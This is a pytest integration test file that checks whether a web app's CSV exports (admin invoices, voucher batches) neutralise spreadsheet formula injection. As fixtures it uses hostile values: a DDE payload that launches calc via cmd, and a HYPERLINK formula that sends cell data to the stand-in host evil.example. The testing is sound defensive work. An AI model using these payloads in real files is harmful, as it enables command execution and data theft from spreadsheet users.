"""Hostile values go through every CSV export and come out as text, never as formulas (OWASP
CSV injection). The export routes are found in the URL map, so a new export is covered too."""

import base64
import csv
import html
import io
import re

import pytest

from tests.conftest import get_csrf, login
from tests.money_support import make_invoice

pytestmark = pytest.mark.integration

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
HOSTILE_EMAIL = "=cmd|'/ccalc'!a0@example.com"  # stored lower-cased
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def assert_no_formula_cells(text: str, where: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows, where
    for row in rows:
        for cell in row:
            assert not (cell.startswith(TRIGGERS) and not NUMBER.match(cell)), f"{where}: formula cell {cell!r}"
    return rows


def _hostile_world(session, factory):
    customer = factory.customer(
        email=HOSTILE_EMAIL, name="@SUM(1+1)*cmd|' /C calc'!A0", company="+1-2", address="-3+3", vat_id="\t=1",
    )
    make_invoice(session, customer.id, 1500, 2500)
    return customer


def _csv_endpoints(app):
    """GET routes whose names say they export CSV (e.g. `admin.invoices_csv`, `*.csv` paths)."""
    return sorted(
        rule.rule for rule in app.url_map.iter_rules()
        if "GET" in rule.methods and not rule.arguments and (rule.rule.endswith(".csv") or rule.endpoint.endswith("_csv"))
    )


def test_every_csv_download_neutralises_formula_cells(app, session, factory):
    customer = _hostile_world(session, factory)
    factory.admin(email="boss@example.com", password="boss-password-long-1")
    admin = app.test_client()
    login(admin, "boss@example.com", "boss-password-long-1")
    owner = app.test_client()
    login(owner, customer.email)

    exports = _csv_endpoints(app)
    assert "/admin/invoices.csv" in exports
    for path in exports:
        response = admin.get(path) if path.startswith("/admin/") else owner.get(path)
        assert response.status_code == 200, path
        assert response.mimetype == "text/csv", path
        assert response.headers["Cache-Control"] == "no-store", path
        assert "attachment" in response.headers["Content-Disposition"], path
        text = response.get_data(as_text=True)
        assert_no_formula_cells(text, path)
        assert "'" + HOSTILE_EMAIL in text or path != "/admin/invoices.csv"


def test_admin_invoices_csv_keeps_amounts_as_numbers_and_quotes_the_hostile_email(app, session, factory):
    _hostile_world(session, factory)
    factory.admin(email="boss@example.com", password="boss-password-long-1")
    admin = app.test_client()
    login(admin, "boss@example.com", "boss-password-long-1")
    rows = list(csv.DictReader(io.StringIO(admin.get("/admin/invoices.csv").get_data(as_text=True))))
    assert len(rows) == 1
    assert rows[0]["email"] == "'" + HOSTILE_EMAIL
    assert rows[0]["total"] == "40.00"


def test_voucher_codes_csv_neutralises_a_hostile_note(app, client, session, factory):
    admin = factory.admin(email="boss@example.com", password="boss-password-long-1")
    login(client, admin.email, "boss-password-long-1")
    page = client.get("/admin/vouchers").get_data(as_text=True)
    request_key = re.search(r'name="request_key"[^>]*value="([^"]+)"', page).group(1)
    response = client.post("/admin/vouchers", data={
        "csrf_token": get_csrf(client, "/admin/vouchers"), "count": "2", "value": "5.00", "max_redemptions": "1",
        "note": HOSTILE_NOTE, "request_key": request_key,
    })
    assert response.status_code == 201
    data_url = html.unescape(re.search(r'href="(data:text/csv[^"]+)"', response.get_data(as_text=True)).group(1))
    text = base64.b64decode(data_url.split(",", 1)[1]).decode()
    rows = assert_no_formula_cells(text, "voucher batch CSV")
    notes = {row[6] for row in rows[1:]}
    assert notes == {"'" + HOSTILE_NOTE}
